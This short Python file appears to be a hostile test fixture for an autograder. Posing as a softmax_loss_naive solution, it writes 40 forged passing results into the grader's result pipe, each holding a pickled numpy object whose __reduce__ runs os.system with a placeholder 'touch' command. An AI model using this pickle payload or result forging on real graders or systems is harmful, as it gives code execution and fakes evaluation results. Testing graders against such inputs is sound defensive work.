"""Hostile: writes forged results, pickled object arrays, straight into the grader's result pipe."""
import base64
import io
import json
import os
import sys

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))


def _forge():
    fd = int(sys.argv[2])       # the harness's result pipe, named on its command line
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    payload = {"npy": base64.b64encode(buffer.getvalue()).decode()}
    for case in range(40):
        line = {"event": "result", "case": case, "ok": True, "out": {"loss": payload, "dW": payload}}
        os.write(fd, (json.dumps(line) + "\n").encode())


def softmax_loss_naive(W, X, y, reg):
    _forge()
    return 0.0, np.zeros_like(W)
